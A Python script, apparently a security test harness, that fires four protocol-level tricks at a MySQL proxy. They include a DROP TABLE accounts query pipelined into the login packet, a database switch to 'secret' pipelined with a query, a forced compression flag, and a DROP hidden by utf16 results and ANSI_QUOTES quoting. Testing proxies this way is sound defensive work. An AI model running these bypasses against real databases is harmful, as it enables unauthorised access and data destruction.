"""Protocol-level tricks against the MySQL proxy, each printing one line: what became of it.

Usage: python3 mysql_tricks.py HOST PORT USER PASSWORD DATABASE

- login+command: a COM_QUERY sent in the same write as the handshake response (the server would
  read it the moment it accepts the login);
- init-db+select: COM_INIT_DB and a query of an unqualified name pipelined in one write (the
  query runs in the new database);
- forced-compression: a client that claims the compressed protocol the greeting did not offer
  (it would compress whatever it sends next);
- garbled-facts: character_set_results = utf16 (which would garble what the proxy reads of the
  session), then ANSI_QUOTES, then a text that hides a DROP under the other quoting.
"""
import hashlib
import socket
import struct
import sys

import pymysql
from pymysql.constants import CLIENT

host, port, user, password, database = sys.argv[1:6]
port = int(port)


def packet(seq, payload):
    return struct.pack("<I", len(payload))[:3] + bytes([seq]) + payload


def read_packet(s):
    head = b""
    while len(head) < 4:
        chunk = s.recv(4 - len(head))
        if not chunk:
            raise EOFError("closed")
        head += chunk
    n = head[0] | head[1] << 8 | head[2] << 16
    body = b""
    while len(body) < n:
        chunk = s.recv(n - len(body))
        if not chunk:
            raise EOFError("closed")
        body += chunk
    return head[3], body


def describe(body):
    if body[:1] == b"\xff":
        return f"error {struct.unpack('<H', body[1:3])[0]}"
    if body[:1] == b"\x00":
        return "ok"
    return "rows"


def native_scramble(nonce, pw):
    h1 = hashlib.sha1(pw.encode()).digest()
    h2 = hashlib.sha1(h1).digest()
    h3 = hashlib.sha1(nonce + h2).digest()
    return bytes(a ^ b for a, b in zip(h1, h3))


def raw_login(s, extra=b"", more_caps=0):
    """Logs in with mysql_native_password (no TLS); `extra` goes in the same write."""
    _, g = read_packet(s)
    at = g.index(b"\0", 1) + 1
    part1 = g[at + 4 : at + 12]
    at += 4 + 8 + 1 + 2 + 1 + 2 + 2
    auth_len = g[at]
    at += 1 + 10
    part2 = g[at : at + max(13, auth_len - 8)].rstrip(b"\0")
    caps = (
        CLIENT.PROTOCOL_41
        | CLIENT.SECURE_CONNECTION
        | CLIENT.PLUGIN_AUTH
        | CLIENT.CONNECT_WITH_DB
        | CLIENT.MULTI_STATEMENTS
        | CLIENT.MULTI_RESULTS
        | CLIENT.LONG_PASSWORD
        | CLIENT.TRANSACTIONS
        | more_caps
    )
    scramble = native_scramble(part1 + part2, password)
    response = (
        struct.pack("<IIB23s", caps, 1 << 24, 45, b"")
        + user.encode()
        + b"\0"
        + bytes([len(scramble)])
        + scramble
        + database.encode()
        + b"\0"
        + b"mysql_native_password\0"
    )
    s.sendall(packet(1, response) + extra)
    _, ok = read_packet(s)
    return describe(ok)


def answer(s):
    """Reads one answer (OK, ERR, or a text result set) and describes it."""
    _, body = read_packet(s)
    kind = describe(body)
    if kind == "rows":
        # Column definitions and rows, up to the terminator (CLIENT_DEPRECATE_EOF not set: an
        # EOF after the definitions, another after the rows).
        eofs = 0
        while eofs < 2:
            _, b = read_packet(s)
            if b[:1] == b"\xfe" and len(b) < 9:
                eofs += 1
            elif b[:1] == b"\xff":
                return describe(b)
    return kind


# 1. A command in the same write as the login.
s = socket.create_connection((host, port), timeout=20)
login = raw_login(s, packet(0, b"\x03DROP TABLE accounts"))
try:
    after = answer(s)
except (EOFError, OSError) as e:
    after = f"closed ({type(e).__name__})"
print(f"login+command: login {login}, command {after}")
s.close()

# 2. COM_INIT_DB and a query pipelined in one write.
s = socket.create_connection((host, port), timeout=20)
raw_login(s)
s.sendall(packet(0, b"\x02secret") + packet(0, b"\x03SELECT v FROM customers"))
print(f"init-db+select: {answer(s)}, {answer(s)}")
s.close()

# 3. The compressed protocol claimed although not offered.
s = socket.create_connection((host, port), timeout=20)
try:
    print(f"forced-compression: {raw_login(s, more_caps=CLIENT.COMPRESS)}")
except (EOFError, OSError) as e:
    print(f"forced-compression: closed ({type(e).__name__})")
s.close()

# 4. Facts garbled by character_set_results, then a DROP hidden by ANSI_QUOTES.
conn = pymysql.connect(
    host=host, port=port, user=user, password=password, database=database,
    client_flag=CLIENT.MULTI_STATEMENTS, read_timeout=20,
)
cur = conn.cursor()
cur.execute("SET character_set_results = utf16")
cur.execute("SET sql_mode = 'ANSI_QUOTES'")
try:
    cur.execute('SELECT 1 AS "a\\"; DROP TABLE accounts; -- "')
    while cur.nextset():
        pass
    print("garbled-facts: ran")
except pymysql.MySQLError as e:
    print(f"garbled-facts: error {e.args[0]}")
